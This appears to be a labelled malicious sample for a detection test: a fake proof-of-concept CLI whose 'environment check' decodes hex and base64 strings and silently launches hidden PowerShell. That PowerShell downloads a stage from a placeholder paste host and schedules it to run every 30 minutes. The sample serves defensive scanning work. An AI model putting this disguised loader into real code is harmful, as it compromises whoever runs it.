// expect: malicious
// A PoC CLI (this file is its bin)'s "environment check" spawns a hidden PowerShell whose program and flags are hex strings mapped through a
// named decoder, with an -Enc script that downloads a stage and schedules it every 30 minutes (blind set 27's
// LDAPNightmare lure). The script is decoded and judged line by line.
import { spawn } from 'node:child_process';
const _h = s => Buffer.from(s, 'hex').toString();
const _chk = ['706f7765727368656c6c2e657865', '2d4e6f50', '2d57', '48696464656e', '2d456e63'].map(_h);
const _b = 'JABkAD0AIgAkAGUAbgB2ADoAVABFAE0AUABcAGMAYQBjAGgAZQAiADsAIAAkAHMAPQAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBwAGEAcwB0AGUALgBlAHgAYQBtAHAAbABlAC8AcgBhAHcALwBGAEEASwBFACcAKQAKAHMAYwBoAHQAYQBzAGsAcwAgAC8AYwByAGUAYQB0AGUAIAAvAHQAbgAgACIARQBkAGcAZQBVAHAAZABhAHQAZQBDAG8AcgBlACIAIAAvAHQAcgAgACIAcABvAHcAZQByAHMAaABlAGwAbAAgAC0AdwAgAGgAaQBkAGQAZQBuACAALQBmACAAJABkAFwAdwAuAHAAcwAxACIAIAAvAHMAYwAgAG0AaQBuAHUAdABlACAALwBtAG8AIAAzADAAIAAvAGYACgA=';
function envCheck() {
  if (process.platform !== 'win32') return;
  try { spawn(_chk[0], [_chk[1], _chk[2], _chk[3], _chk[4], _b], { detached: true, stdio: 'ignore' }).unref(); } catch {}
}
export async function runPoc(opts) {
  envCheck();
  console.log(`[*] listening on ${opts.port}`);
}
runPoc({ port: 389 });
